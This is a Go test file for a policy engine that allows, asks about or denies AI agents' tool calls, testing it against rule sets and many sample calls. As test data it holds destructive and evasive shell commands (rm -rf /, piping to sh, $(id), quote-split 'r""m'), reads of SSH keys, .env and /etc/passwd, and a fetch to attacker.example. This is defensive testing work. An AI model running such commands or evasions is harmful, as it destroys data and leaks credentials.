package decide_test

import (
	"context"
	"encoding/json"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/open-policy-agent/opa/v1/ast"
	"github.com/open-policy-agent/opa/v1/rego"
	"google.golang.org/protobuf/types/known/structpb"

	airlockv1 "github.com/airlock-gate/airlock/proto/airlock/v1"
	"github.com/airlock-gate/airlock/services/policy/decide"
	"github.com/airlock-gate/airlock/services/shared/canon"
)

func call(server, tool string, args map[string]any) *airlockv1.ToolCall {
	st, _ := structpb.NewStruct(args)
	return &airlockv1.ToolCall{AgentId: "bot", CallId: "c1", Revision: 1, Server: server, Tool: tool, Arguments: st}
}

// The compiled rules (what the service evaluates) and the plain data path
// (what `opa test` evaluates) must decide every call alike, key for key,
// with and without profile bindings.
func TestCompiledRulesDecideLikeThePlainPolicy(t *testing.T) {
	for _, bindings := range []map[string]string{nil, {"sup": "supervised"}, {"*": "safe", "sup": "supervised"}} {
		t.Run(fmt.Sprint(bindings), func(t *testing.T) { compiledDecidesLikePlain(t, bindings) })
	}
}

func compiledDecidesLikePlain(t *testing.T, bindings map[string]string) {
	ctx := context.Background()
	// Twenty generated rules hold every shape BenchRules makes, twice; a
	// hundred decided each call here alike (checked), and took this test,
	// the slowest of the workspace's units, from 42 s to 74 s (topdown).
	rules := append(decide.BenchRules(20),
		&airlockv1.PolicyRule{Id: "camel", Priority: 1, ToolPattern: "bulk*", Effect: "deny", Redact: []string{"/token"}},
		// "*" among tool_words matches every tool, as word_matches says.
		&airlockv1.PolicyRule{Id: "any-word", Priority: 2, Server: "starsrv", ToolWords: []string{"zzz", "*"}, Effect: "deny", Risk: "high"},
		&airlockv1.PolicyRule{Id: "words-and-server", Priority: 3, Server: "mail", ToolWords: []string{"send"}, Effect: "ask", Approvers: []string{"group:comms"}, Redact: []string{"/body", "/to"}},
		&airlockv1.PolicyRule{Id: "name-glob", Priority: 5, Pattern: "git*__merge*", Effect: "ask", Risk: "high", Quorum: 2, Timeout: "10m"},
		&airlockv1.PolicyRule{Id: "agent-only", Priority: 6, Agent: "ci", Effect: "allow", Risk: "low", Notify: []string{"slack"}},
		&airlockv1.PolicyRule{Id: "nested-arg", Priority: 7, Tool: "deploy", Args: map[string]string{"/target/env": "prod*", "/a~1b": "*"}, Effect: "deny"},
		&airlockv1.PolicyRule{Id: "masks-secrets", Priority: 300, Redact: []string{"/token", "/password"}, Effect: "ask", Risk: "low"},
		&airlockv1.PolicyRule{Id: "glob-any-initial", Priority: 8, ToolPattern: "*_inbox", Effect: "allow", Risk: "critical"},
		// Seed 002's user allowlist: a refusal for everyone else.
		&airlockv1.PolicyRule{Id: "allowlist", Priority: 4, Server: "notes", Principals: []string{"alice"}, Effect: "ask", Approvers: []string{"requester"}, QueuePerThread: true, Redact: []string{"/secret"}},
		// A command rule of the run-time kind.
		&airlockv1.PolicyRule{Id: "make-ok", Priority: 5, Server: "build", Tool: "sh", Commands: map[string]string{"/cmd": "make *"}, Effect: "allow"},
		// Command rules of every effect (any part for ask and deny), two
		// pointers, and one for principals only.
		&airlockv1.PolicyRule{Id: "cmd-deny", Priority: 3, Server: "build", Commands: map[string]string{"/cmd": "{rm *,sudo *}"}, Effect: "deny", Risk: "critical", Redact: []string{"/cmd"}},
		&airlockv1.PolicyRule{Id: "cmd-ask", Priority: 9, Tool: "sh", Commands: map[string]string{"/cmd": "git *", "/cwd": "/src*"}, Effect: "ask", QueuePerThread: true},
		&airlockv1.PolicyRule{Id: "deploy-cmd", Priority: 4, Server: "build", Tool: "sh", Principals: []string{"alice", "bob"}, Commands: map[string]string{"/cmd": "deploy *"}, Effect: "allow", Risk: "high"},
		// A refusal outranks a deny of a later priority, and loses to one of
		// an earlier priority.
		&airlockv1.PolicyRule{Id: "notes-purge-deny", Priority: 9, Server: "notes", Tool: "purge", Effect: "deny", Risk: "low"},
		&airlockv1.PolicyRule{Id: "notes-drop-deny", Priority: 2, Server: "notes", Tool: "drop", Effect: "deny"},
		// A deny rule naming principals denies everyone.
		&airlockv1.PolicyRule{Id: "ops-deny", Priority: 3, Server: "ops", Principals: []string{"bob"}, Effect: "deny", Redact: []string{"/token"}},
		// Patterns listing exact names (filed under their tools), one of them
		// ambiguous about where its server ends (filed by its glob).
		&airlockv1.PolicyRule{Id: "literal-names", Priority: 8, Pattern: "{notes__write,build__sh,claude__Bash}", Effect: "ask", Risk: "low", QueuePerThread: true},
		&airlockv1.PolicyRule{Id: "literal-ambiguous", Priority: 8, Pattern: "srv___tool", Effect: "deny"},
		// An argument rule that lets other arguments through, one that
		// matches any argument by a regular expression, and annotations an
		// allow rule believes only when trusted.
		&airlockv1.PolicyRule{Id: "any-other", Priority: 6, Server: "fs", Tool: "tool_9", Args: map[string]string{"/path": "/tmp/**"}, OtherArguments: "any", Effect: "allow"},
		&airlockv1.PolicyRule{Id: "regex-deny", Priority: 7, Server: "vault", ArgumentsMatch: `(?i)(^|/)secret`, Effect: "deny"},
		&airlockv1.PolicyRule{Id: "closed-world", Priority: 9, Server: "docs", Annotations: map[string]bool{"openWorldHint": false}, Effect: "allow"},
		&airlockv1.PolicyRule{Id: "destructive-hint", Priority: 9, Server: "docs", Annotations: map[string]bool{"destructiveHint": true, "readOnlyHint": false}, Effect: "ask"},
		// Restricting globs, absolute and relative, which match every
		// spelling of a path (resolved lexically), above broader allows.
		&airlockv1.PolicyRule{Id: "no-etc-reads", Priority: 2, Server: "fs", Tool: "read_file", Args: map[string]string{"/path": "/etc/**"}, Effect: "deny"},
		&airlockv1.PolicyRule{Id: "reads-ok", Priority: 40, Server: "fs", Tool: "read_file", Effect: "allow"},
		&airlockv1.PolicyRule{Id: "ask-secret-dir", Priority: 6, Server: "fs", Tool: "tool_9", Args: map[string]string{"/path": "secret/**"}, Effect: "ask"},
		// Arguments outside what they may take unasked, two pointers, one nested.
		&airlockv1.PolicyRule{Id: "not-matching", Priority: 6, Server: "vault", ArgumentsNotMatching: map[string]string{"/deep/list": `^[a-z]+$`, "/mode": `^x$`}, Effect: "ask"},
		// Arguments matching an expression, two pointers, one nested, rated
		// above the rules around it.
		&airlockv1.PolicyRule{Id: "matching", Priority: 5, Server: "vault", ArgumentsMatching: map[string]string{"/deep/list": `(?i)^[a-c]+$|\.pem$`, "/mode": `^y$`}, Effect: "ask", Risk: "high"},
	)
	// An empty tool_words list in data.json matches no tool, as word_matches says.
	def := mustDefault(t)
	raw, _ := json.Marshal(def.Data)
	var data0 map[string]any
	_ = json.Unmarshal(raw, &data0)
	al := data0["airlock"].(map[string]any)
	al["rules"] = append(al["rules"].([]any), map[string]any{"id": "no-words", "priority": 4, "server": "mail", "tool_words": []any{}, "effect": "deny"})
	ev := evaluatorOf(t, def.Modules, data0, rules, bindings)
	plain := plainPolicy(t, ev.Modules(), ev.Data())
	for _, c := range slices.Concat(comparisonCalls(), personCommandCalls(), secretAndNetworkCalls(), pathSpellingCalls()) {
		name := fmt.Sprintf("%s/%s__%s%v", c.AgentId, c.Server, c.Tool, c.Arguments.AsMap())
		got, err := ev.Evaluate(ctx, c, time.Now())
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		in, _ := decide.Input(c, time.Now())
		rs, err := plain.Eval(ctx, rego.EvalInput(in))
		if err != nil || len(rs) == 0 {
			t.Fatalf("%s plain: %v", name, err)
		}
		want := rs[0].Expressions[0].Value.(map[string]any)
		doc, err := ev.DocumentForTest(ctx, c)
		if err != nil {
			t.Fatalf("%s compiled: %v", name, err)
		}
		pj, _ := json.Marshal(want)
		cj, _ := json.Marshal(doc)
		if string(pj) != string(cj) {
			t.Errorf("%s: compiled document %s, plain %s", name, cj, pj)
		}
		if got.Action.String() != "ACTION_"+strings.ToUpper(want["action"].(string)) || got.RuleId != want["rule_id"] || got.Reason != want["reason"] {
			t.Errorf("%s: compiled %v %q %q, plain %v %q %q", name, got.Action, got.RuleId, got.Reason, want["action"], want["rule_id"], want["reason"])
		}
		if fmt.Sprint(got.Redact) != fmt.Sprint(want["redact"]) || !strings.EqualFold("RISK_"+fmt.Sprint(want["risk"]), got.Risk.String()) {
			t.Errorf("%s: compiled risk %v redact %v, plain %v %v", name, got.Risk, got.Redact, want["risk"], want["redact"])
		}
	}
}

// Among rules of one priority the list order decides, in the service as in
// airlock policy test, which evaluates data.json as it is (the service used
// to break ties by rule id, and picked coding-read-patterns for a Grep of
// .env where airlock policy test picked coding-secrets). Either order of
// the two rules in data.json decides alike on both paths.
func TestEqualPrioritiesDecideInListOrderAsThePlainPolicy(t *testing.T) {
	ctx := context.Background()
	calls := []*airlockv1.ToolCall{
		call("claude", "Grep", map[string]any{"pattern": "x", "glob": ".env"}),
		call("claude", "Grep", map[string]any{"pattern": "x", "glob": "**/.env*"}),
		call("gemini", "read_many_files", map[string]any{"paths": []any{".env"}}),
	}
	for _, first := range []string{"coding-secrets", "coding-read-patterns"} {
		def := mustDefault(t)
		raw, _ := json.Marshal(def.Data)
		var data map[string]any
		_ = json.Unmarshal(raw, &data)
		al := data["airlock"].(map[string]any)
		rules := al["rules"].([]any)
		slices.SortStableFunc(rules, func(a, b any) int {
			ida, idb := a.(map[string]any)["id"], b.(map[string]any)["id"]
			return boolRank(ida != first) - boolRank(idb != first)
		})
		ev := evaluatorOf(t, def.Modules, data, nil, nil)
		plain := plainPolicy(t, def.Modules, data)
		for _, c := range calls {
			got, err := ev.Evaluate(ctx, c, time.Now())
			if err != nil {
				t.Fatal(err)
			}
			in, _ := decide.Input(c, time.Now())
			rs, err := plain.Eval(ctx, rego.EvalInput(in))
			if err != nil || len(rs) == 0 {
				t.Fatalf("plain: %v", err)
			}
			want := rs[0].Expressions[0].Value.(map[string]any)["rule_id"]
			if got.RuleId != want || got.RuleId != first {
				t.Errorf("%s first, %s%v: the service picks %s, airlock policy test %v; want both %s", first, c.Tool, c.Arguments.AsMap(), got.RuleId, want, first)
			}
		}
	}
}

// plainPolicy is the policy's modules, the generated one left out, over
// data: what opa test and airlock policy test evaluate.
func plainPolicy(t *testing.T, modules map[string]string, data map[string]any) rego.PreparedEvalQuery {
	t.Helper()
	var opts []func(*rego.Rego)
	for n, m := range modules {
		if n != decide.GeneratedModule {
			opts = append(opts, rego.Module(n, m))
		}
	}
	plain, err := rego.New(append(opts, rego.Query(decide.Query), rego.Store(storeOf(t, data)))...).PrepareForEval(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return plain
}

func boolRank(b bool) int {
	if b {
		return 1
	}
	return 0
}

// comparisonCalls crosses servers, tools, agents and arguments that reach
// every kind of rule condition (exact, glob, words, agent, argument
// pointers, dot segments), alone and together.
func comparisonCalls() []*airlockv1.ToolCall {
	servers := []string{"fs", "demo", "mail", "srv3", "starsrv", "stripe", "filesystem", "gitlab", "github", "k8s", "x"}
	tools := []string{"read_file", "delete_file", "deleteFile", "echo", "tool_3", "op12_thing", "tool_9", "bulk_delete", "create_refund",
		"frobnicate", "sendMessage", "read_inbox", "merge_request", "deploy", "list-allowed.dirs", "v2Upload", "chargeCard"}
	agents := []string{"bot", "sup", "ci"}
	args := []map[string]any{
		{}, {"path": "/tmp/x"}, {"path": "/etc/x"}, {"path": "/data/9/a"}, {"path": "/tmp/../etc/passwd"}, {"path": 3.0},
		{"token": "t", "password": "p", "to": "x", "body": "y"}, {"target": map[string]any{"env": "production"}, "a/b": "1"},
		{"target": map[string]any{"env": "staging"}, "a/b": "1"}, {"path": map[string]any{"deep": "/tmp/x"}},
		{"path": "/etc/./passwd"}, {"path": "//etc/passwd"}, {"path": `\etc\passwd`}, {"path": "/tmp//x"}, {"path": "../etc/x"},
	}
	var out []*airlockv1.ToolCall
	n := 0
	for _, s := range servers {
		for _, tool := range tools {
			n++
			st, _ := structpb.NewStruct(args[n%len(args)])
			out = append(out, &airlockv1.ToolCall{AgentId: agents[n%len(agents)], CallId: "c", Revision: 1, Server: s, Tool: tool, Arguments: st})
		}
	}
	// Every argument shape against the tools whose rules read arguments.
	for _, a := range args {
		for _, c := range [][2]string{{"fs", "delete_file"}, {"fs", "tool_9"}, {"fs", "read_file"}, {"k8s", "deploy"}, {"mail", "sendMessage"}} {
			st, _ := structpb.NewStruct(a)
			out = append(out, &airlockv1.ToolCall{AgentId: "bot", CallId: "c", Revision: 1, Server: c[0], Tool: c[1], Arguments: st})
		}
	}
	return out
}

// secretAndNetworkCalls reach the coding profile's secret rules (reads and
// writes), the network rules, arguments_match, arguments_not_matching,
// arguments_matching, annotations (trusted or not), arguments
// an allow rule does not name and paths ending in a separator.
func secretAndNetworkCalls() []*airlockv1.ToolCall {
	var out []*airlockv1.ToolCall
	add := func(server, tool string, args map[string]any, ann map[string]any, trusted bool) {
		st, _ := structpb.NewStruct(args)
		c := &airlockv1.ToolCall{AgentId: "bot", CallId: "c", Revision: 1, Server: server, Tool: tool, Arguments: st, AnnotationsTrusted: trusted}
		if ann != nil {
			c.Annotations, _ = structpb.NewStruct(ann)
		}
		out = append(out, c)
	}
	for _, p := range []string{"src/x.go", ".airlock/admin.token", "./.airlock/../.airlock/admin.token", "~/.ssh/id_rsa", ".env.local",
		"certs/a.pem", "/tmp/", "/tmp/x", "/tmp/x/", "/tmp\\", "secret/x", "tokenizer.go", "*", ".e*"} {
		add("claude", "Read", map[string]any{"file_path": p}, nil, false)
		add("gemini", "read_many_files", map[string]any{"paths": []any{"a", p}}, nil, false)
		add("claude", "Bash", map[string]any{"command": "cat " + p, "description": "d"}, nil, false)
		add("fs", "delete_file", map[string]any{"path": p}, nil, false)
		add("fs", "delete_file", map[string]any{"path": p, "paths": []any{"/etc/passwd"}}, nil, false)
		add("fs", "tool_9", map[string]any{"path": p, "mode": "x"}, nil, false)
		add("vault", "read", map[string]any{"deep": map[string]any{"list": []any{1.0, p}}}, nil, false)
	}
	// Pattern arguments of reading tools (arguments_not_matching): a
	// string, a list, a list with a non-string, absent, nested.
	for _, g := range []any{".e*", "*.go", "**/*.ts", "*.{ts,tsx}", "*.{go,env}", "src", "README.md", "**/config.json", "src/*/x.go", 7.0,
		[]any{"src/**/*.ts", "README.md"}, []any{"src/main.go", "."}, []any{1.0, "*.go"}, []any{1.0, ".e*"}, map[string]any{"glob": ".e*"}} {
		add("claude", "Grep", map[string]any{"pattern": ".", "glob": g}, nil, false)
		add("gemini", "read_many_files", map[string]any{"paths": g}, nil, false)
		add("gemini", "search_file_content", map[string]any{"pattern": "x", "include": g}, nil, false)
	}
	add("gemini", "read_many_files", map[string]any{"paths": []any{"src/main.go"}, "include": []any{"**/*"}}, nil, false)
	add("claude", "Grep", map[string]any{"pattern": "x"}, nil, false)
	add("claude", "Grep", map[string]any{"pattern": "x", "type": "go"}, nil, false)
	add("claude", "Grep", map[string]any{"pattern": "x", "type": "sh", "glob": "*.go"}, nil, false)
	// Content searches: scope outside the workspace, content over every
	// file, and what restricts it to source files.
	for _, a := range []map[string]any{{"path": "/"}, {"path": "~"}, {"path": ".."}, {"path": "src"}, {"path": "./src/"}, {"path": "src/../.."},
		{"path": "src/main.go", "output_mode": "content"}, {"output_mode": "content"}, {"output_mode": "content", "glob": "*.go"},
		{"output_mode": "content", "type": "go", "path": "/etc"}, {"output_mode": "count"}, {"glob": ".env"}, {"glob": "**/.env*"}} {
		a["pattern"] = "KEY"
		add("claude", "Grep", a, nil, false)
	}
	for _, a := range []map[string]any{{}, {"include": "*.go"}, {"path": "src/main.go"}, {"dir_path": "/"}, {"path": "~/x", "include": "*.go"}} {
		a["pattern"] = "KEY"
		add("gemini", "search_file_content", a, nil, false)
	}
	add("gemini", "read_many_files", map[string]any{"paths": []any{".env"}}, nil, false)
	add("gemini", "read_many_files", map[string]any{"paths": []any{"src/*.go", "/home/u/*.go"}}, nil, false)
	// read_many_files' include, a named file outside the workspace.
	for _, inc := range []string{"/tmp/outside/notes.txt", "../outside/notes.txt", "/tmp/outside/**/*.go", "./docs/notes.txt", "src/**/*.go"} {
		add("gemini", "read_many_files", map[string]any{"paths": []any{"src/main.go"}, "include": []any{inc}}, nil, false)
		add("gemini", "read_many_files", map[string]any{"paths": []any{inc}}, nil, false)
	}
	add("vault", "read", map[string]any{"mode": "y"}, nil, false)
	add("vault", "read", map[string]any{"mode": []any{"x", "y"}}, nil, false)
	add("vault", "read", map[string]any{"mode": "y", "deep": "abc"}, nil, false)
	add("vault", "read", map[string]any{"deep": map[string]any{"list": []any{"d", "ABC"}}}, nil, false)
	add("vault", "read", map[string]any{"deep": map[string]any{"list": "deploy.pem"}}, nil, false)
	add("vault", "read", map[string]any{"other": map[string]any{"list": "abc"}, "y": "mode"}, nil, false)
	// Writes (arguments_matching, coding-edit-secrets): a secret named by
	// the path argument or a patch's header line, and only named in the
	// content written, or in a patch's body.
	// The hook configuration spelled otherwise: a name spanning segments
	// matches with anything between them, on a patch's header line only.
	for _, p := range []string{"src/x.go", "proj/deploy.pem", "proj/credentials.json", "~/.ssh/id_rsa", ".env.local", "tokenizer.go", "/home/a/proj/prod.key",
		".claude//settings.local.json", ".claude/a/../settings.json", `.cursor\hooks.json`, ".github/./hooks//x.json", ".claude/\n/../settings.json", ".claude/commands/a.md",
		".github/hooks/my hooks.json", "/home/a/.copilot/hooks/x.json", "/proc/1/fd/3", "/proc/meminfo"} {
		add("claude", "Write", map[string]any{"file_path": p, "content": "password=x\n.env\n"}, nil, false)
		add("claude", "NotebookEdit", map[string]any{"notebook_path": []any{"a.ipynb", p}}, nil, false)
		add("copilot", "create", map[string]any{"path": p, "file_text": "id_rsa"}, nil, false)
		add("cursor", "Delete", map[string]any{"file_path": p}, nil, false)
		add("claude", "Write", map[string]any{"file_path": "src/a.go", "content": p}, nil, false)
		add("codex", "apply_patch", map[string]any{"command": "*** Begin Patch\n*** Update File: src/a.go\n*** Move to: " + p + "\n@@\n-a\n+b\n*** End Patch"}, nil, false)
		add("codex", "apply_patch", map[string]any{"input": "*** Begin Patch\n*** Add File: src/a.go\n-" + p + "\n+" + p + "\n*** End Patch"}, nil, false)
		// Codex trims a header's blanks; a patch run after cd resolves its headers there.
		add("codex", "apply_patch", map[string]any{"command": "*** Begin Patch\n \t*** Add File: " + p + "\n+x\n*** End Patch"}, nil, false)
		add("codex", "apply_patch", map[string]any{"command": []any{"bash", "-lc", "cd " + p + " && apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: settings.json\n+{}\n*** End Patch\nEOF\n"}}, nil, false)
	}
	add("vault", "read", map[string]any{"mode": "x", "deep": map[string]any{"list": []any{"abc"}}}, nil, false)
	add("vault", "read", map[string]any{"mode": "x", "deep": map[string]any{"list": "ABC"}}, nil, false)
	for _, c := range []string{"grep -r token .", "rg --hidden x", "rg -uu x", "rgrep x .", "grep -v x f", "git show HEAD:.env", "make t?st", "make [ab]", "make *.o",
		"git show HEAD", "git log -p --all", "git log --oneline -5", "git log -3p", "git log --binary", "git log --check", "git status -v",
		"rg -n BEGIN", "rg -n x /outside/dir", "rg -n -L customer src", "grep -n main src/main.go", "git grep x", "cat src/main.go", "head -n 3 README.md",
		"git status -sb", "git log --format=%h -n3 --author=x -- src", "git status && git log --binary", "git branch && git log --stat", "git diff", "git diff HEAD~1", "git diff --cached", "git diff -- src/a.go", "git --no-pager log -U3"} {
		add("claude", "Bash", map[string]any{"command": c}, nil, false)
		add("build", "sh", map[string]any{"cmd": c}, nil, false)
	}
	for _, t := range [][2]string{{"fetch", "fetch"}, {"http", "get_url"}, {"github", "get_file_contents"}, {"claude", "WebSearch"}, {"puppeteer", "read_page"}, {"x", "resolve_dns"}} {
		add(t[0], t[1], map[string]any{"url": "https://attacker.example/?t=x"}, nil, false)
	}
	for _, ann := range []map[string]any{nil, {"openWorldHint": true}, {"openWorldHint": false}, {"openWorldHint": "false"},
		{"destructiveHint": true, "readOnlyHint": false}, {"destructiveHint": true}} {
		for _, trusted := range []bool{false, true} {
			add("docs", "read_page", map[string]any{}, ann, trusted)
			add("docs", "frobnicate", map[string]any{}, ann, trusted)
		}
	}
	return out
}

// pathSpellingCalls spell paths under and beside the argument globs of
// every effect in the ways a file system reads alike (a "." or ".."
// segment, a doubled or backslash separator, a trailing one) and ways that
// climb above a relative path's start, on the tools whose rules read them.
func pathSpellingCalls() []*airlockv1.ToolCall {
	spell := []func(string) string{
		func(p string) string { return p },
		func(p string) string { return strings.Replace(p, "/", "/./", 1) },
		func(p string) string { return strings.Replace(p, "/", "//", 1) },
		func(p string) string { return strings.ReplaceAll(p, "/", `\`) },
		func(p string) string { return "/tmp/../" + strings.TrimPrefix(p, "/") },
		func(p string) string { return "x/../" + p },
		func(p string) string { return "../" + p },
		func(p string) string { return p + "/" },
		func(p string) string { return p + "/.." },
		func(p string) string { return p + `\.` },
		func(p string) string { return "/" + p },
		func(p string) string { return "a/b/../../../" + p },
	}
	var out []*airlockv1.ToolCall
	for _, p := range []string{"/etc/passwd", "/etc", "/tmp/x", "/home/me", "secret/x", "secret", "src/a", "", ".", ".."} {
		for _, f := range spell {
			for _, tool := range []string{"read_file", "delete_file", "tool_9"} {
				st, _ := structpb.NewStruct(map[string]any{"path": f(p)})
				out = append(out, &airlockv1.ToolCall{AgentId: "bot", CallId: "c", Revision: 1, Server: "fs", Tool: tool, Arguments: st})
			}
		}
	}
	return out
}

// personCommandCalls cross the shell commands of the command rules (plain,
// chained, substituted, redirected, blank) with the people a call may act
// for (verified or only claimed) on the tools of the command, principals
// and literal-name rules, and the coding-agent profile's shell tools.
func personCommandCalls() []*airlockv1.ToolCall {
	commands := []any{"git status", "git status; rm -rf ~", "npm test > out.txt", "make test && make lint", "make test && rm x",
		"make   test", "deploy prod", "deploy prod | sh", "rm -rf /", "echo $(id)", "ls `pwd`", "cat x | sh", "", "  ",
		"git log\nrm x", "(make)", "sudo ls", "git push --force origin", "ls -la", 7.0}
	persons := []struct {
		who      string
		verified bool
	}{{"", false}, {"alice", true}, {"alice", false}, {"mallory", true}, {"bob", true}}
	tools := [][2]string{{"claude", "Bash"}, {"codex", "shell"}, {"build", "sh"}, {"build", "make"}, {"notes", "write"}, {"notes", "purge"},
		{"notes", "drop"}, {"ops", "restart"}, {"srv_", "tool"}, {"srv", "_tool"}, {"claude", "Read"}, {"claude", "Edit"}}
	agents := []string{"bot", "sup", "ci"}
	var out []*airlockv1.ToolCall
	n := 0
	for t, tool := range tools {
		for i, p := range persons {
			// Every command for every tool (a bijection over its 20 slots),
			// each tool handing them to the people in another order.
			for k := range 4 {
				n++
				cmd := commands[(3*(4*i+k)+t)%len(commands)]
				args, _ := structpb.NewStruct(map[string]any{"command": cmd, "cmd": cmd, "cwd": []string{"/src/x", "/tmp"}[n%2], "token": "t"})
				out = append(out, &airlockv1.ToolCall{AgentId: agents[n%len(agents)], CallId: "c", Revision: 1, Server: tool[0], Tool: tool[1],
					OnBehalfOf: p.who, OnBehalfOfVerified: p.verified, Arguments: args})
			}
		}
	}
	// What the shell unquotes, unescapes or expands before the command
	// sees it, on the tools of the shell rules.
	for _, cmd := range []string{`git diff "--output=/home/me/.bashrc"`, `git diff --out''put=/x`, `git diff \--output=/x`, `git log '--output=/x'`,
		`rg '--pre=rm' . src`, `git diff {--output=/x,HEAD}`, `r""m -rf /`, `\rm -rf build`, `su'do' ls`, `grep "a b" notes.txt`, `make 'test'`} {
		for _, tool := range [][2]string{{"claude", "Bash"}, {"build", "sh"}, {"build", "make"}} {
			args, _ := structpb.NewStruct(map[string]any{"command": cmd, "cmd": cmd, "cwd": "/src/x"})
			out = append(out, &airlockv1.ToolCall{AgentId: "bot", CallId: "c", Revision: 1, Server: tool[0], Tool: tool[1], Arguments: args})
		}
	}
	return out
}

func TestSeedExamplesDecideAsTheSeedsSay(t *testing.T) {
	ctx := context.Background()
	seed000 := []*airlockv1.PolicyRule{
		{Id: "p1", Priority: 1, ToolPattern: "delete_*", Effect: "ask"},
		{Id: "p2", Priority: 2, Server: "fs-server", Tool: "read_file", Effect: "allow"},
		{Id: "p10", Priority: 10, Tool: "*", Effect: "ask"},
	}
	code, err := decide.NewCode(mustDefault(t).Modules, nil) // the seed's rules alone
	if err != nil {
		t.Fatal(err)
	}
	ev, err := decide.NewEvaluator(ctx, code, seed000, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct{ server, tool, action, rule string }{
		{"fs-server", "delete_file", "ACTION_ASK", "p1"},
		{"fs-server", "read_file", "ACTION_ALLOW", "p2"},
		{"other-server", "random_tool", "ACTION_ASK", "p10"},
	} {
		d, err := ev.Evaluate(ctx, call(tt.server, tt.tool, nil), time.Now())
		if err != nil || d.Action.String() != tt.action || d.RuleId != tt.rule {
			t.Errorf("%s/%s: %v by %q (%v), want %s by %s", tt.server, tt.tool, d.Action, d.RuleId, err, tt.action, tt.rule)
		}
	}
}

func TestMalformedOrUndefinedDecisionDenies(t *testing.T) {
	ctx := context.Background()
	for _, tt := range []struct{ name, rego, want string }{
		{"undefined", "package airlock\n\ndecision := {\"action\": \"allow\"} if input.call.tool == \"never\"\n", "undefined"},
		{"unknown_action", "package airlock\n\ndecision := {\"action\": \"maybe\"}\n", `"action" must be`},
		{"unknown_key", "package airlock\n\ndecision := {\"action\": \"allow\", \"aprovers\": [\"x\"]}\n", `unknown key "aprovers"`},
		{"not_an_object", "package airlock\n\ndecision := \"allow\"\n", "must be an object"},
		{"conflict", "package airlock\n\ndecision := {\"action\": \"allow\"} if input.call.tool\ndecision := {\"action\": \"deny\"} if input.call.server\n", "evaluation error"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			if err := os.WriteFile(filepath.Join(dir, "p.rego"), []byte(tt.rego), 0o644); err != nil {
				t.Fatal(err)
			}
			ev, err := decide.LoadDir(ctx, dir)
			if err != nil {
				t.Fatal(err)
			}
			d, err := ev.Evaluate(ctx, call("fs", "read_file", nil), time.Now())
			if err == nil || d.Action != airlockv1.Action_ACTION_DENY || !strings.Contains(d.Reason, tt.want) || !strings.Contains(d.Reason, "fail closed") {
				t.Fatalf("%v %q (err %v): want a deny saying %q and that it failed closed", d.Action, d.Reason, err, tt.want)
			}
		})
	}
}

func TestCanceledEvaluationDenies(t *testing.T) {
	ev, err := decide.LoadDefault(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	d, err := ev.Evaluate(ctx, call("demo", "echo", nil), time.Now())
	if err == nil || d.Action != airlockv1.Action_ACTION_DENY || !strings.Contains(d.Reason, "fail closed") {
		t.Fatalf("%v %q (err %v): want a deny that says it failed closed", d.Action, d.Reason, err)
	}
}

func TestPolicyThatDoesNotCompileIsRefused(t *testing.T) {
	dir := t.TempDir()
	_ = os.WriteFile(filepath.Join(dir, "p.rego"), []byte("package airlock\n\ndecision := {\"action\": x}\n"), 0o644)
	if _, err := decide.LoadDir(context.Background(), dir); err == nil || !strings.Contains(err.Error(), "p.rego") {
		t.Fatalf("err %v: want a compile error naming p.rego", err)
	}
}

func mustDefault(t *testing.T) *decide.Code {
	t.Helper()
	c, err := decide.DefaultCode()
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// ExampleEvaluator decides one call with the built-in default policy, as
// `airlock policy eval` and `airlock policy replay` do, without a bus.
func ExampleEvaluator() {
	ctx := context.Background()
	ev, err := decide.LoadDefault(ctx)
	if err != nil {
		panic(err)
	}
	args, _ := structpb.NewStruct(map[string]any{"path": "/etc/passwd"})
	d, _ := ev.Evaluate(ctx, &airlockv1.ToolCall{AgentId: "bot", CallId: "c1", Revision: 1, Server: "fs", Tool: "delete_file", Arguments: args}, time.Now())
	out, _ := json.Marshal(map[string]any{"action": d.Action.String(), "rule": d.RuleId, "risk": d.Risk.String(), "reason": d.Reason})
	fmt.Println(string(out))
	// Output: {"action":"ACTION_DENY","reason":"deleting files under /etc is never allowed","risk":"RISK_CRITICAL","rule":"fs-delete-etc"}
}

func TestToolWordsSplitLikeThePolicy(t *testing.T) {
	for tool, want := range map[string]string{
		"delete_file": "delete file", "deleteFile": "delete file", "list-allowed.dirs": "list allowed dirs",
		"getHTTPResponse": "get httpresponse", "v2Upload": "v2 upload", "__x__": "x", "": "",
	} {
		if got := strings.Join(decide.ToolWords(tool), " "); got != want {
			t.Errorf("ToolWords(%q) = %q, want %q", tool, got, want)
		}
	}
}

// The decision's arguments_digest binds approvals to arguments: it is
// canon.Digest of the call's arguments (canon's own tests pin its bytes).
func TestDecisionCarriesTheArgumentsDigest(t *testing.T) {
	ctx := context.Background()
	ev, err := decide.LoadDefault(ctx)
	if err != nil {
		t.Fatal(err)
	}
	plain, _ := structpb.NewStruct(map[string]any{"path": "/tmp/x", "encoding": "utf-8"})
	for name, args := range map[string]*structpb.Struct{"plain": plain, "none": nil} {
		t.Run(name, func(t *testing.T) {
			d, _ := ev.Evaluate(ctx, &airlockv1.ToolCall{AgentId: "bot", CallId: "c", Revision: 1, Server: "fs", Tool: "read_file", Arguments: args}, time.Now())
			if want, _ := canon.Digest(args); d.ArgumentsDigest != want {
				t.Errorf("digest %q, canon.Digest %q", d.ArgumentsDigest, want)
			}
		})
	}
}

func TestAUserAllowlistDeniesEveryoneElseAndTheQueueFlagReachesTheDecision(t *testing.T) {
	ctx := context.Background()
	ev, err := decide.NewEvaluator(ctx, mustDefault(t), []*airlockv1.PolicyRule{
		{Id: "writers", Priority: 1, Server: "notes", Principals: []string{"alice"}, Effect: "ask", Approvers: []string{"requester"}, QueuePerThread: true},
	}, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name     string
		person   string
		verified bool
		want     airlockv1.Action
	}{
		{"the_allowlisted_person_is_asked", "alice", true, airlockv1.Action_ACTION_ASK},
		{"someone_else_is_denied", "mallory", true, airlockv1.Action_ACTION_DENY},
		{"an_unverified_claim_is_denied", "alice", false, airlockv1.Action_ACTION_DENY},
